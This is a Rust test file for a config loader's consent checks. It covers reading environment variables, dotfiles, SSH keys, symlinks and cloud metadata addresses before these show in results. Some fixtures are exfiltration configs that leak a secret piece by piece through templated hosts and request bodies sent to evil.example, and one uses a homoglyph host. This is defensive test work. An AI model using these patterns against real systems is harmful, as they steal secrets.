//! What is asked for before it shows in results or in what is said of a config, and in which words.

use crate::LoadError;
use crate::fixture::Folder;

use super::super::{Agreements, Level, Permissions, Terms, TrustRequest, TrustSubject};

#[test]
#[expect(clippy::too_many_lines, reason = "most of it is one table")]
fn what_is_agreed_to_says_what_kind_of_thing_it_is() {
    let variable = |to: &str| TrustSubject::Variable {
        name: "X".to_owned(),
        to: to.to_owned(),
    };
    let address = |origin: &str| TrustSubject::Address {
        origin: origin.to_owned(),
    };
    let component = |grants| TrustSubject::Component {
        alias: "acme".to_owned(),
        source: "/a/acme.wasm".into(),
        sha256: "0123456789abcdef".to_owned(),
        grants,
        terms: Terms::default(),
    };
    let raised = TrustSubject::Component {
        alias: "x' (safe".to_owned(),
        source: "/a b/acme.wasm".into(),
        sha256: "0123456789abcdef".to_owned(),
        grants: Permissions::default(),
        terms: Terms {
            memory_mb: Some(4_096),
            cpu_ms: Some(3_600_000),
            requests: Some(3),
            tokens: Some(1_000),
            cost_microusd: Some(10_000),
            renamed: [("tone".to_owned(), "contains".to_owned())].into(),
        },
    };
    let reach = Permissions {
        hosts: vec!["https://a.example".to_owned()],
        ..Permissions::default()
    };
    let write = TrustSubject::Write {
        path: "/c/~/.bashrc".into(),
    };
    let table = [
        (
            variable("https://a.example"),
            "send the environment variable X to https://a.example",
        ),
        (
            variable("http://10.1.2.3:8080"),
            "send the environment variable X to http://10.1.2.3:8080 (this machine's network)",
        ),
        (
            variable("http://[fe80::1]:80"),
            "send the environment variable X to http://[fe80::1]:80 (link-local: a cloud's metadata service)",
        ),
        (
            address("http://169.254.169.254"),
            "connect to http://169.254.169.254 (link-local: a cloud's metadata service)",
        ),
        (
            address("http://168.63.129.16"),
            "connect to http://168.63.129.16 (a cloud's metadata service)",
        ),
        (
            address("http://[::ffff:192.168.0.1]"),
            "connect to http://[::ffff:192.168.0.1] (this machine's network)",
        ),
        (
            address("http://intranet:81"),
            "connect to http://intranet:81 (this machine's network)",
        ),
        (
            component(Permissions::default()),
            "use the component 'acme' (/a/acme.wasm, sha256 0123456789ab…), no network, no keys",
        ),
        (
            component(reach),
            "use the component 'acme' (/a/acme.wasm, sha256 0123456789ab…), which may reach https://a.example",
        ),
        (
            raised,
            "use the component 'x\\' (safe' ('/a b/acme.wasm', sha256 0123456789ab…), no network, no keys; \
             with up to 4096 MiB of memory in each call; with up to 3600 s of processor time in each call; with up to 3 requests in a run; \
             with up to 1000 tokens in a run; spending up to $0.01 in a run; its tone is called contains here",
        ),
        (
            write,
            "write the file /c/~/.bashrc (`~` is not the home folder here)",
        ),
    ];
    for (subject, words) in table {
        assert_eq!(subject.to_string(), words);
    }
}

#[test]
fn variables_in_texts_are_asked_for_once_and_those_in_credentials_are_not() {
    let folder = Folder::new(
        "env: { A: '{{ env.OUT }}', B: b, C: }\n\
         prompts: ['{{ env.A }}', '{{ env.A ~ x }}', '{{ env.B }}']\n\
         providers:\n\
         - { id: 'openai:m', config: { apiKey: '{{ env.K }}', headers: { x: 'Bearer {{ env.H }}' } }, env: { OPENAI_API_KEY: '{{ env.L }}' } }\n\
         - { id: 'openai:n', label: '{{ env.N }}', config: { user: '{{ env.U }}' } }\n\
         - { 'openai:a-token': { label: '{{ env.T }}' } }\n\
         tests: file://t.jsonl",
    )
    .file("t.jsonl", r#"{ "vars": { "x": "{{ env.C }}" } }"#);
    let folder = ["OUT", "C", "K", "H", "L", "N", "U", "T"]
        .iter()
        .fold(folder, |folder, name| folder.env(name, "a value"));
    let kept = |line_column: &str, name: &str| {
        format!(
            "promptfooconfig.yaml:{line_column}: : let the value of the environment variable {name} appear in results and files"
        )
    };
    let mut requests = folder.requests();
    requests.sort();
    assert_eq!(
        requests,
        [
            kept("2:11", "OUT"),
            kept("5:28", "N"),
            kept("5:59", "U"),
            kept("6:32", "T"),
        ]
    );
}

/// Whether a variable is set says something, too, and so do the names of all that are.
#[test]
fn a_variable_that_is_not_set_is_asked_for_like_one_that_is() {
    for (env, text, asked) in [
        (
            "A: '{{ env.S }}'",
            "{{ env.A }}",
            "the environment variable S",
        ),
        ("S:", "{{ env.S }}", "the environment variable S"),
        (
            "A: '{{ env.S | length }}'",
            "p",
            "the environment variable S",
        ),
        ("A: \"{{ env['S'] }}\"", "p", "any environment variable"),
    ] {
        let folder = Folder::new(&format!(
            "env: {{ {env} }}\nprompts: [\"{text}\"]\nproviders: [echo]"
        ));
        let unset = folder.withheld();
        let expected = format!("let the value of {asked} appear in results and files");
        assert!(unset[0].ends_with(&expected), "{unset:?}");
        assert_eq!(unset, folder.env("S", "x").withheld(), "{env}");
    }
    let label = "prompts: [p]\nproviders: [{ id: echo, label: '{{ env.S }}' }]";
    let unset = Folder::new(label).withheld();
    assert_eq!(unset, Folder::new(label).env("S", "x").withheld());
}

/// Whether a credential is there, can be sent and is accepted shows in what is said and in which
/// rows pass: an expression could make any variable show, a piece at a time.
#[test]
fn a_credential_that_is_worked_out_is_asked_for() {
    for (env, key, is_asked) in [
        ("A: '{{ env.S }}'", "{{ env.A }}", false),
        ("A: 'Key {{ env.S }}'", "{{ env.A }}", false),
        ("A: x", "{{ env.S }}", false),
        ("A: x", "Bearer {{- env.S -}} x", false),
        ("A: x", "{{ '' if env.S[0] == 'h' else 'N' }}", true),
        ("A: x", "{{ env.S[0] }}Z00QQQQQQQQ", true),
        ("A: x", "{{ env.S | first }}", true),
        ("A: x", "{{ env.S or 'x' }}", true),
        (
            "A: \"{{ '' if env.S[0] == 'h' else 'N' }}\"",
            "{{ env.A }}",
            true,
        ),
    ] {
        let folder = Folder::new(&format!(
            "env: {{ {env} }}\nprompts: [p]\nproviders: [{{ id: 'openai:m', config: {{ apiKey: \"{key}\" }} }}]"
        ));
        let requests = folder.env("S", "hunter2").requests();
        assert_eq!(!requests.is_empty(), is_asked, "{env} {key}: {requests:?}");
    }
}

#[test]
fn a_file_whose_name_begins_with_a_dot_is_asked_for() {
    for file in [".git/config", ".npmrc", "sub/.netrc", ".env"] {
        let config = format!("prompts: ['file://{file}']\nproviders: [echo]");
        let requests = Folder::new(&config).file(file, "x").requests();
        assert_eq!(requests.len(), 1, "{file}: {requests:?}");
    }
}

#[test]
fn what_the_system_shows_as_files_is_refused_and_never_asked_for() {
    let patterns = ["/proc/self/*", "/sys/*/*"];
    for text in ["/proc/self/environ", "/proc/self/exe", "/dev/stdin"]
        .iter()
        .chain(&patterns)
    {
        let folder = Folder::new(&format!("prompts: ['file://{text}']\nproviders: [echo]"));
        let problems = folder.problems();
        // Nothing has to be agreed to before it is told.
        assert_eq!(folder.withheld(), [""; 0]);
        assert!(
            problems[0].contains("belongs to the system and is never read"),
            "{problems:?}"
        );
    }
}

/// Each of these was a way to read a variable out, a bit or a line at a time, from what was said
/// while its reading was not agreed to.
#[test]
fn a_variable_that_is_not_agreed_to_changes_nothing_that_is_said() {
    let providers = |more: &str| format!("prompts: [p]\nproviders: [{more}]");
    let at_http = |url: &str| providers(&format!("{{ id: http, config: {{ url: \"{url}\" }} }}"));
    let azure = "{ id: 'openai:m', config: { apiHost: x.example, apiVersion: \"{{ 'b d' if env.S[0] == 'h' else '1' }}\" } }";
    let outward = "env: { A: '{{ env.S }}' }\noutputPath: '../{{ env.A }}.json'\nprompts: [p]\nproviders: [echo]";
    let configs = [
        at_http("https://{{ env.S[0] }}.0.evil.example"),
        at_http("http://192.0.2.{{ env.S | length }}"),
        at_http("https://{{ 'a' if env.S[0] == 'h' else 'b' }}.example"),
        providers("\"{{ 'openai:m' if env.S[0] == 'h' else 'echo' }}\""),
        providers(azure),
        providers("{ id: http, config: { url: 'https://evil.example', body: 'file://../{{ env.S }}' } }"),
        outward.to_owned(),
        "env: { A: '{{ env.S }}' }\nprompts: ['file://../{{ env.A }}.txt']\nproviders: [echo]".to_owned(),
        "env: { A: '{{ env.S }}' }\nprompts: [p]\nproviders: [echo]\ntests: 'file://{{ env.A }}.csv'".to_owned(),
        "env: { A: \"{{ env.S | round }}\" }\nprompts: [p]\nproviders: [echo]".to_owned(),
        "env: { A: '{{ env.S }}' }\nprompts: [p]\nproviders: [echo]\ntests: [{ assert: [{ type: '{{ env.A }}' }] }]".to_owned(),
    ];
    for config in configs {
        let said = |value: &str| Folder::new(&config).env("S", value).withheld();
        let one = said("hunter2-hunter2");
        assert!(
            one[0].ends_with(
                "let the value of the environment variable S appear in results and files"
            ),
            "{config}: {one:?}"
        );
        assert_eq!(one.len(), 1, "{config}: {one:?}");
        assert_eq!(one, said("12"), "{config}");
    }
}

#[test]
fn a_file_that_is_not_agreed_to_changes_nothing_that_is_said() {
    let configs = [
        "prompts: [p]\nproviders: [echo]\ntests: [{ assert: [{ $ref: .env }] }]",
        "env: { A: { $ref: '.env#/a' } }\noutputPath: '../{{ env.A }}.json'\nprompts: [p]\nproviders: [echo]",
        "prompts: ['file://.env']\nproviders: [echo]",
        "prompts: [p]\nproviders: ['file://.env/x.yaml', { $ref: .env }]",
        "prompts: [p]\nproviders: [echo]\ntests: [{ vars: file://.env }]",
        "prompts: [p]\nproviders: [echo]\ntests: [{ assert: [{ type: contains, value: file://.env }] }]",
    ];
    for config in configs {
        let said = |text: &str| Folder::new(config).file(".env", text).withheld();
        let one = said("a: hunter2");
        assert!(one[0].contains("read the file ~/.env"), "{config}: {one:?}");
        for other in ["a: 12", "[", ""] {
            assert_eq!(one, said(other), "{config}");
        }
        assert_eq!(
            one,
            Folder::new(config).withheld(),
            "{config}: there or not"
        );
    }
}

#[test]
#[cfg(unix)]
fn a_folder_that_is_not_agreed_to_is_not_listed() {
    for pattern in ["../secret/*", "link/*", "*/id_*", "l*/*"] {
        let folder = Folder::new("").file(
            "evals/c.yaml",
            format!("prompts: ['file://{pattern}']\nproviders: [echo]"),
        );
        let mut folder = folder.file("secret/id_rsa", "x").file("secret/notes", "x");
        folder.configs = vec!["evals/c.yaml".into()];
        std::os::unix::fs::symlink("../secret", folder.path().join("evals/link")).expect("a link");
        let last = pattern.rsplit('/').next().unwrap_or_default();
        assert_eq!(
            folder.withheld(),
            [format!(
                "evals/c.yaml:1:11: prompts[0]: find out which files match ~/secret/{last}"
            )],
            "{pattern}"
        );
    }
}

/// What sets a plugin up shows in addresses and in what is wrong with them. Only the person's own
/// setting may pass through the config.
#[test]
fn a_setting_that_holds_another_variable_is_asked_for() {
    for (value, is_asked) in [
        ("https://a.example/v1", false),
        ("'{{ env.OPENAI_BASE_URL }}'", false),
        ("", false),
        ("'{{ env.S }}'", true),
        ("'https://{{ env.S }}.example'", true),
        ("'{{ env.OPENAI_BASE_URL }}{{ env.S }}'", true),
        ("'{{ env.OPENAI_BASE_URL }}/v1'", true),
    ] {
        let config =
            format!("env: {{ OPENAI_BASE_URL: {value} }}\nprompts: [p]\nproviders: ['openai:m']");
        let folder = Folder::new(&config).env("S", "postgres://u:pw@db/x");
        let folder = folder.env("OPENAI_BASE_URL", "https://b.example");
        if is_asked {
            assert!(folder.withheld()[0].contains("let the value of"), "{value}");
        } else {
            assert_eq!(folder.requests(), [""; 0], "{value}");
        }
    }
}

/// With words around it, the declared value is not the secret.
#[test]
fn a_secret_with_words_around_it_is_still_one() {
    let config = "env: { OPENAI_API_KEY: 'pre {{ env.MY_SECRET }}', A: '{{ env.MY_SECRET }} post' }\nprompts: [p]\nproviders: ['openai:m']";
    let plan = Folder::new(config)
        .env("MY_SECRET", "hunter2-hunter2")
        .plan();
    let secrets: Vec<&str> = plan.secrets().collect();
    assert!(secrets.contains(&"hunter2-hunter2"), "{secrets:?}");
}

/// A link is a stranger's word: where it leads out, nobody looks whether something is there.
#[test]
#[cfg(unix)]
fn a_link_that_leads_out_is_asked_for_whether_its_target_is_there_or_not() {
    let configs = [
        ("prompts: ['file://link.txt']", "read the file ~/TARGET"),
        (
            "prompts: [p]\ntests: file://link.csv",
            "read the file ~/TARGET",
        ),
        ("prompts: ['file://*.txt']", "read the file ~/TARGET"),
        (
            "prompts: ['file://f*/*/x*']",
            "find out which files match ~/*/x*",
        ),
        (
            "prompts: [p]\ntests: [{ assert: [{ type: javascript, value: file://main.js }] }]",
            "find out which files match ~/TARGET*",
        ),
    ];
    for (config, asked) in configs {
        for target in ["there", "nowhere"] {
            let config = format!("{config}\nproviders: [echo]");
            let folder = Folder::new("").file("evals/c.yaml", &config);
            let folder = folder.file("there", "x").file("evals/real.txt", "x");
            let folder = folder.file("evals/lib/index.js", "module.exports = 1");
            let mut folder = folder.file("evals/main.js", "require('./lib'); require('./link')");
            folder.configs = vec!["evals/c.yaml".into()];
            for (link, target) in [
                ("link.txt", format!("../{target}")),
                ("link.csv", format!("../{target}")),
                ("link.js", format!("../{target}")),
                ("folder", "..".to_owned()),
            ] {
                let link = folder.path().join("evals").join(link);
                std::os::unix::fs::symlink(target, link).expect("a link");
            }
            let asked = asked.replace("TARGET", target);
            let withheld = folder.withheld();
            assert_eq!(withheld.len(), 1, "{config}: {withheld:?}");
            assert!(withheld[0].ends_with(&asked), "{config}: {withheld:?}");
        }
    }
}

#[test]
fn what_is_agreed_to_is_read_and_what_follows_is_asked_for_then() {
    let config = "prompts: ['{{ env.A }}']\nproviders: [echo]\nenv: { A: '{{ env.S }}' }\noutputPath: '../{{ env.A }}.json'";
    let folder = Folder::new(config).env("S", "x");
    let Err(LoadError::NotAgreed(requests)) = folder.plan_under(Agreements::default()) else {
        panic!("S is not agreed to");
    };
    let agreed = requests.iter().map(TrustRequest::agreed).collect();
    let level = Level::Nothing;
    let (plan, _) = folder
        .plan_under(Agreements { level, agreed })
        .expect("all is read");
    let subjects = plan.trust_requests.iter().map(|it| &it.subject);
    let subjects: Vec<&TrustSubject> = subjects.collect();
    assert!(
        matches!(
            subjects[..],
            [TrustSubject::Keep { .. }, TrustSubject::Write { .. }]
        ),
        "{subjects:?}"
    );
}

#[test]
fn what_the_person_types_reads_variables_unasked_and_a_file_of_that_name_does_not() {
    let mut folder = Folder::new("env: { A: }\nproviders: [echo]").env("A", "x");
    folder.overrides.given.prompts = vec!["{{ env.A }}".to_owned()];
    assert_eq!(folder.requests(), [""; 0]);
    folder.overrides.given.prompts = vec!["file://command line".to_owned()];
    let folder = folder.file("command line", "{{ env.A }}");
    let kept = "command line:1:1: : let the value of the environment variable A appear in results and files";
    assert_eq!(folder.requests(), [kept]);
}

#[test]
fn a_component_outside_the_folder_is_a_file_like_any_other() {
    let folder = Folder::new("").file(
        "evals/c.yaml",
        "prompts: [p]\nproviders: [echo]\nplugins: { a: { source: ../a.wasm }, b: { source: b.wasm } }",
    );
    let mut folder = folder;
    folder.configs = vec!["evals/c.yaml".into()];
    assert_eq!(
        folder.requests(),
        ["evals/c.yaml:3:25: plugins.a.source: read the file ~/a.wasm"]
    );
}

/// The name decides how it is read; what is odd about it would be quoted.
#[test]
#[cfg(unix)]
fn a_config_that_nobody_named_and_that_leads_out_is_asked_for() {
    for target in ["secret.json", "nowhere.json"] {
        let folder = Folder::new("").file("secret.json", r#"{ "auths": 1 }"#);
        let mut folder = folder.file("evals/x", "");
        let config = folder.path().join("evals/promptfooconfig.yaml");
        std::os::unix::fs::symlink(format!("../{target}"), config).expect("a link");
        folder.configs = vec!["evals".into()];
        let asked = format!("evals/promptfooconfig.yaml: : read the file ~/{target}");
        assert_eq!(folder.withheld(), [asked]);
        folder.configs = vec!["evals/promptfooconfig.yaml".into()];
        assert_eq!(folder.withheld(), [""; 0]);
    }
}

#[test]
fn a_provider_of_a_row_is_asked_for_as_its_files_make_it() {
    for (row, file) in [
        (
            r#"{ "vars": { "q": "1" }, "provider": "file://p.yaml" }"#,
            "p.yaml",
        ),
        (
            r#"{ "vars": { "q": "1" }, "provider": { "id": "openai:x", "config": { "apiBaseUrl": "file://u.txt" } } }"#,
            "u.txt",
        ),
    ] {
        let asked = |address: &str| {
            let text = match file {
                "u.txt" => address.to_owned(),
                _ => format!("id: openai:x\nconfig: {{ apiBaseUrl: '{address}' }}"),
            };
            let requests = super::data("t.jsonl", row).file(file, &text).requests();
            requests.last().cloned().unwrap_or_default()
        };
        let one = asked("https://one.example");
        assert!(
            one.contains("'openai:x' (apiBaseUrl: https://one.example"),
            "{one}"
        );
        assert_ne!(one, asked("https://two.example"));
    }
}

#[test]
fn a_host_of_a_component_is_said_as_it_is_asked() {
    let config = "prompts: [p]\nproviders: [echo]\nplugins: { acme: { source: a.wasm, permissions: { hosts: ['https://api.openаi.com'] } } }";
    let folder = Folder::new(config).file("a.wasm", "");
    let (config, _) = crate::load(&folder.request()).expect("a config");
    let subject = TrustSubject::Component {
        alias: "acme".to_owned(),
        source: "a.wasm".into(),
        sha256: "0".repeat(64),
        grants: config.plugins[0].permissions.clone(),
        terms: Terms::default(),
    };
    let said = subject.to_string();
    assert!(
        said.contains("reach https://api.xn--openi-7ve.com"),
        "{said}"
    );
}

#[test]
fn what_a_flag_names_stands_at_the_command_line() {
    assert_eq!(crate::model::Position::default().named(), "command line");
}
